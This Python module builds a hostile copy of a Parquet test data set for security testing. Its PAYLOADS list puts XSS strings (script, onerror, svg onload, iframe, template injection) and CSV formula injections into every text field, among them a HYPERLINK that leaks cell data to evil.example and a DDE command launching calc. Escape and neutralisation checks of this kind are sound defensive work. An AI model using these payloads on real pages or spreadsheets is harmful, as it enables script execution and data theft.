"""A data set whose every text field holds a hostile value (markup, script, spreadsheet formula).

:func:`hostile_copy` rewrites a generated Parquet data set (``tiny_planted``) so that ids,
names, teams, segments, regions, roles, exit reasons, intervention names and practices, and a
few quarantined rows (vocabulary fields) carry the :data:`PAYLOADS`. Each script payload would
set ``window.__pwned`` if it ever ran in a page; the formulas must reach a CSV neutralised.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import polars as pl

#: What a hostile export could hold. Script payloads set window.__pwned (a number) or open a
#: dialog; formula payloads are what a spreadsheet would run.
PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2;alert(2)">',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\"'><svg onload=window.__pwned=3>",
    '{{constructor.constructor("window.__pwned=4")()}}',
    "${window.__pwned=5}",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB=1+1",
    "</textarea><iframe srcdoc='<script>parent.__pwned=6</script>'>",
    "javascript:window.__pwned=7",
)
#: Markers in the payloads: none may appear unescaped in any page's markup.
RAW_MARKUP: tuple[str, ...] = ("<script>window.__pwned", "<img src=x", "<svg onload", "<iframe")
#: The formula payloads, which a CSV must never start a cell with.
FORMULAS = tuple(p for p in PAYLOADS if p[0] in "=+-@\t\r")

#: Id columns, changed consistently in every table (so the references still hold).
ID_COLUMNS = (
    "rep_id",
    "manager_id",
    "account_id",
    "opportunity_id",
    "contact_id",
    "activity_id",
    "action_id",
    "intervention_id",
    "verifier_action_id",
)
#: Free-text columns: every value gets a payload in front (exit_reason is a vocabulary).
TEXT_COLUMNS = ("rep_name", "team", "segment", "region", "role", "name", "practice")
#: Vocabulary columns: a few extra rows with a payload there (quarantined, shown in Start here).
VOCABULARY = {"activities": "activity_type", "buyer_actions": "action_type"}


def _payload_for(values: pl.Series) -> pl.Series:
    """Each distinct value gets one payload (cycled) in front, so groups stay groups."""
    distinct = values.drop_nulls().unique(maintain_order=True).to_list()
    table = {v: f"{PAYLOADS[i % len(PAYLOADS)]} {v}" for i, v in enumerate(distinct)}
    return values.replace_strict(table, default=None, return_dtype=pl.String)


def hostile_copy(source: Path, target: Path) -> Path:
    """Copy the data set in ``source`` to ``target`` with hostile text in every text field."""
    target.mkdir(parents=True, exist_ok=True)
    for path in sorted(source.iterdir()):
        if path.suffix != ".parquet":
            if path.is_file() and not path.name.startswith("_") and path.suffix != ".json":
                shutil.copy(path, target / path.name)
            continue
        frame = pl.read_parquet(path)
        changes = []
        for column in frame.columns:
            if frame.schema[column] != pl.String:
                continue
            if column in ID_COLUMNS:
                # one payload per id column, after the id (ids stay unique and consistent)
                payload = PAYLOADS[ID_COLUMNS.index(column) % len(PAYLOADS)]
                changes.append(pl.col(column) + f" {payload}")
            elif column in TEXT_COLUMNS:
                changes.append(_payload_for(frame[column]).alias(column))
        frame = frame.with_columns(changes) if changes else frame
        table = path.stem
        if table in VOCABULARY:
            bad = frame.head(3).with_columns(
                pl.Series(VOCABULARY[table], [PAYLOADS[0], PAYLOADS[1], PAYLOADS[3]]),
                (pl.col(frame.columns[0]) + " bad").alias(frame.columns[0]),
            )
            frame = pl.concat([frame, bad])
        frame.write_parquet(target / path.name)
    return target


def hostile_texts(folder: Path) -> list[str]:
    """Every distinct hostile text value of the copy (names, teams, ...) as written."""
    found: set[str] = set()
    for path in folder.glob("*.parquet"):
        frame = pl.read_parquet(path)
        for column in frame.columns:
            if column in TEXT_COLUMNS and frame.schema[column] == pl.String:
                found.update(v for v in frame[column].drop_nulls().to_list() if v)
    return sorted(found)
